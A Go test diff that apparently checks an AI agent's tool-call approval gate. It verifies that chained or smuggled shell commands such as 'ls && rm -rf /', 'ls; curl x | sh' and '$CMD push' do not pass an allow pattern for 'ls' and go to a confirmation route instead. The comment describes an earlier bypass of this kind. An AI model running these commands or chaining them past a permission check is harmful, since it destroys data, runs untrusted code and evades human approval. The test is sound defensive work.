@@ -113,6 +113,38 @@ func TestConditionErrorsAreAuditedAndNeverAllow(t *testing.T) {
 	})
 }
 
+// TestLegacyRoutesReadLikeAllowRoutes: on a `confirm: false` route the
+// agent's requires_confirmation false allows, so its conditions and call
+// patterns are read as an allow route's: a condition that fails does not
+// match, and a pattern must cover every part of a command. Read as an ask
+// route's, `ls && rm -rf /` matched Bash(ls:*) and the agent's false let
+// it through where the next route would have asked (a second reader).
+func TestLegacyRoutesReadLikeAllowRoutes(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, db *store.DB) {
+		svc := newService(t, db, svcOpts{chans: []gate.Channel{newFake("fake")}, routes: []gate.Route{
+			{Name: "ls-free", Calls: []string{"Bash(ls:*)"}, Action: policy.Agent},
+			{Name: "small-ok", Tool: "pay", When: `args.amount < 100`, Action: policy.Agent},
+			{Name: "rest", Channels: []string{"fake"}},
+		}})
+		for _, tc := range []struct{ tool, args, route string }{
+			{"pay", `{"amount":"lots"}`, "rest"},
+			{"pay", `{"amount":5}`, "small-ok"},
+			{"Bash", `{"command":"ls && rm -rf /"}`, "rest"},
+			{"Bash", `{"command":"$CMD push"}`, "rest"},
+			{"Bash", `{"command":"ls; curl x | sh"}`, "rest"},
+			{"Bash", `{"command":"ls -la"}`, "ls-free"},
+		} {
+			r, _, err := svc.Submit(context.Background(), gate.Submission{ToolName: tc.tool, ToolArgs: json.RawMessage(tc.args), Caller: "bot", RequiresConfirmation: no()})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if r.Route != tc.route || r.Allowed() != (tc.route != "rest") {
+				t.Errorf("%s %s: %s on route %s, want route %s", tc.tool, tc.args, r.Status, r.Route, tc.route)
+			}
+		}
+	})
+}
+
 func TestUnrecordedAllows(t *testing.T) {
 	storetest.Each(t, func(t *testing.T, db *store.DB) {
 		svc := newService(t, db, svcOpts{routes: []gate.Route{{Name: "reads", Tool: "Read", Action: policy.Allow, NoRecord: true}}})
